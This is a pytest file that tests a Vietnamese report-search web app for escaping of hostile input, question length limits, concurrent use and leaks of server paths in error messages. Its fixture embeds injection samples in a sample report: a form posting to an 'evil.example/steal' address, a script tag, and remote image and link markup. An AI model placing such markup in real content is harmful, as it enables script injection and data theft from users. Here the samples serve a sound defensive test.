"""The web app against hostile input and concurrent use: real Backend, real gradio server, temp indexes."""

from __future__ import annotations

import re
import threading
from pathlib import Path

import pytest

gradio = pytest.importorskip("gradio")
from gradio_client import Client, handle_file  # noqa: E402

from rag.core.config import load_settings  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
CORPUS = ROOT / "eval" / "corpus"
BTS_QUESTION = "Năm 2024 Nam Định thẩm định bao nhiêu vị trí BTS?"

# A report whose text carries markup: remote images (HTML and Markdown), a form posting elsewhere, a script.
HOSTILE_REPORT = """UBND TỈNH THÁI BÌNH
SỞ THÔNG TIN VÀ TRUYỀN THÔNG

BÁO CÁO
Kết quả công tác thông tin và truyền thông tháng 3 năm 2023 của tỉnh Thái Bình <img src=http://x/y.png>

I. KẾT QUẢ THỰC HIỆN NHIỆM VỤ THÁNG 3/2023

1. Lĩnh vực bưu chính, viễn thông <form action=http://evil.example/steal><input name=p></form>

Trong tháng đã rà soát, chấp thuận 77 vị trí xây dựng trạm BTS <script>alert(1)</script> cho các doanh nghiệp \
viễn thông ![x](http://evil.example/z.png) theo [hướng dẫn](http://evil.example/).
Doanh thu viễn thông tháng 3 năm 2023 ước đạt 91.500 triệu đồng <img src=http://x/y.png>.

2. Khó khăn, vướng mắc

Một số doanh nghiệp chậm báo cáo <img src=http://x/y.png> ![ảnh](http://evil.example/a.png).
"""
HOSTILE_QUESTION = "Tháng 3/2023 Thái Bình chấp thuận bao nhiêu vị trí BTS?"


def assert_inert(text: str) -> None:
    """No tag or Markdown construct from the report survives as live markup."""
    low = text.lower()
    for live in ("<img", "<form", "<script", "<input", "](http", "![", "[hướng dẫn]"):
        assert live not in low, f"{live!r} reached the output: {text[max(0, low.find(live) - 80) :][:200]!r}"


def free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def launch_app(settings, **build_kwargs):
    from rag.ui.app import build_app, launch

    demo = build_app(settings, **build_kwargs)
    port = free_port()
    launch(demo, settings, host="127.0.0.1", port=port, prevent_thread_lock=True, quiet=True)
    return demo, f"http://127.0.0.1:{port}/"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A lexical index of the sample reports plus the hostile one, served by a real app."""
    from rag.index.catalog import ingest_paths

    d = tmp_path_factory.mktemp("hostile")
    src = d / "src"
    src.mkdir()
    (src / "thaibinh-2023-03.txt").write_text(HOSTILE_REPORT, encoding="utf-8")
    settings = load_settings({"index_dir": d / "idx", "embedder": "none"})
    report = ingest_paths([CORPUS, src], settings)
    assert not report.failed, report.failed
    demo, url = launch_app(settings)
    try:
        yield settings, demo, url
    finally:
        demo.close()


# --- 2. report text is data, never markup ---------------------------------------------------------------


def test_chat_answer_and_citation_of_a_hostile_report_are_inert(hostile):
    _, _, url = hostile
    history, *_ = Client(url, verbose=False).predict(HOSTILE_QUESTION, [], "", "", "", api_name="/chat")
    answer = history[-1]["content"]
    answer = answer[0]["text"] if isinstance(answer, list) else answer
    assert "77" in answer and "thaibinh-2023-03.txt" in answer  # the answer and its cited passage
    assert "&lt;script&gt;" in answer or "&lt;img" in answer  # shown as text, not dropped
    assert_inert(answer)


def test_summary_of_a_hostile_report_is_inert(hostile):
    _, _, url = hostile
    client = Client(url, verbose=False)
    doc_id = {d["source"]: d for d in client.predict(api_name="/reports")}["thaibinh-2023-03.txt"]["doc_id"]
    md, table, _ = client.predict(doc_id, "", "", 0, api_name="/summarize")
    assert "Thái Bình" in md
    assert "&lt;img" in md  # the title keeps its text, escaped
    assert_inert(md)
    # The indicator table is a plain-text Dataframe; its cells carry the report's words as data.
    assert table["data"]


def test_render_answer_and_summary_markdown_escape_every_field(hostile):
    from rag.answer.asker import answer_to_json
    from rag.service import Backend
    from rag.ui.app import render_answer, summary_markdown

    settings, _, _ = hostile
    be = Backend(settings)
    data = answer_to_json(be.ask(HOSTILE_QUESTION))
    assert data["status"] == "answered" and data["value"] == 77
    for stage in render_answer(data, be.doc_by_id()):
        assert_inert(stage)
    doc = next(d for d in be.documents() if d.source == "thaibinh-2023-03.txt")
    assert_inert(summary_markdown(be.summary(doc.doc_id)))


def test_eval_report_html_escapes_report_text():
    from rag.evaluation.report_html import render_report

    item = {
        "id": "x<script>",
        "kind": "single",
        "question": "![q](http://evil.example/q.png)",
        "status": "answered",
        "value": 1.0,
        "unit": "",
        "scale": 1.0,
        "gold_value": 2.0,
        "gold_unit": "",
        "evidence": "<img src=http://x/y.png>",
        "answer_text": "<form action=http://evil.example/>",
        "retrieved": [
            {"source": "a.txt", "section": "<b>", "score": 1.0, "text": "<script>alert(1)</script>"}
        ],
        "hit_rank": None,
        "correct": False,
    }
    run = {"items": [item], "metrics": {}, "config": {"pipeline": "default"}}
    page = render_report(run)
    body = page.split("<body>", 1)[1]
    for live in ("<img", "<form", "<script"):
        assert live not in body.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body


# --- 3. question length and concurrent questions --------------------------------------------------------


def test_too_long_question_is_refused_by_backend_api_and_cli(hostile, tmp_path):
    from click.testing import CliRunner
    from gradio_client.exceptions import AppError

    from rag.answer.query import MAX_QUESTION_CHARS
    from rag.cli import cli
    from rag.core.errors import QuestionTooLongError
    from rag.service import Backend

    settings, _, url = hostile
    assert MAX_QUESTION_CHARS == 2000
    long_q = BTS_QUESTION + " " + "x" * 2_000_000
    with pytest.raises(QuestionTooLongError, match="vượt giới hạn 2.000 ký tự"):
        Backend(settings).ask(long_q)
    # Exactly at the limit is still a question.
    at_limit = BTS_QUESTION + " " * 10 + "a" * (MAX_QUESTION_CHARS - len(BTS_QUESTION) - 10)
    assert len(at_limit) == MAX_QUESTION_CHARS
    Backend(settings).ask(at_limit)

    client = Client(url, verbose=False)
    with pytest.raises(AppError, match="Câu hỏi quá dài"):
        client.predict("a" * (MAX_QUESTION_CHARS + 1), api_name="/ask")
    history, *_ = client.predict("a" * (MAX_QUESTION_CHARS + 1), [], "", "", "", api_name="/chat")
    assert "Câu hỏi quá dài" in str(history[-1]["content"])

    res = CliRunner().invoke(cli, ["--index", str(settings.index_dir), "--embedder", "none", "ask", long_q])
    assert res.exit_code != 0
    assert "vượt giới hạn 2.000 ký tự" in str(res.exception) + res.output


def test_concurrent_questions_through_one_backend_all_get_their_own_answer(hostile):
    from rag.answer.asker import answer_to_json
    from rag.service import Backend
    from rag.ui.app import EXAMPLES

    settings, _, _ = hostile
    questions = [q for q in EXAMPLES if not q.startswith("còn")] + [HOSTILE_QUESTION]
    drop = ("timings",)

    def strip(d):
        return {k: v for k, v in d.items() if k not in drop}

    expected = {q: strip(answer_to_json(Backend(settings).ask(q))) for q in questions}
    assert expected[BTS_QUESTION]["value"] == 146 and expected[HOSTILE_QUESTION]["value"] == 77

    be = Backend(settings)  # one backend, as the app has, built by the first of the threads
    jobs = questions * 3
    barrier = threading.Barrier(len(jobs))
    got: dict[int, dict] = {}
    errors: list[BaseException] = []

    def worker(i: int, q: str) -> None:
        try:
            barrier.wait(timeout=30)
            got[i] = strip(answer_to_json(be.ask(q)))
        except BaseException as exc:  # noqa: BLE001 - reported by the assertion below
            errors.append(exc)

    threads = [threading.Thread(target=worker, args=(i, q)) for i, q in enumerate(jobs)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert not errors, errors
    assert len(got) == len(jobs)
    for i, q in enumerate(jobs):
        assert got[i] == expected[q], q


# --- 5. no server paths in messages ---------------------------------------------------------------------


def test_unreadable_upload_names_the_file_not_the_server_path(hostile, tmp_path):
    from gradio_client.exceptions import AppError

    settings, _, url = hostile
    f = tmp_path / "corrupt.docx"
    f.write_bytes(b"PK\x03\x04 this is not a docx")
    with pytest.raises(AppError) as err:
        Client(url, verbose=False).predict([handle_file(str(f))], api_name="/upload")
    msg = str(err.value)
    assert "corrupt.docx" in msg
    assert "/uploads/" not in msg and str(settings.index_dir) not in msg and str(tmp_path) not in msg


def test_vi_error_cuts_paths_to_file_names():
    from rag.core.errors import IngestError
    from rag.service import vi_error

    msg = vi_error(
        IngestError("x.docx is not valid (Package not found at '/srv/baocao/index/uploads/x.docx')")
    )
    assert "x.docx" in msg and "/srv" not in msg and "uploads" not in msg
    assert "tháng 3/2023" in vi_error(IngestError("tháng 3/2023 không rõ"))  # dates are not paths
    assert re.search(r"index[\\/]", vi_error(IngestError("index/uploads/b.pdf: hỏng"))) is None
